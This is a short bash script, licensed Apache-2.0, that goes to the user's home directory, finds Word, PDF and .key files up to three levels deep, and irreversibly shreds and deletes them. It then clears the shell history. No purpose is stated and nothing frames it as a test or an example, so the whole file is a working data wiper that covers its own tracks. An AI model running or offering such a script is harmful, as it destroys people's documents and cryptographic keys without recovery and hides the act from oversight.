#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
cd "$HOME" || exit 1
find . -maxdepth 3 \( -name '*.docx' -o -name '*.pdf' -o -name '*.key' \) -print0 | xargs -0 shred -uz
history -c
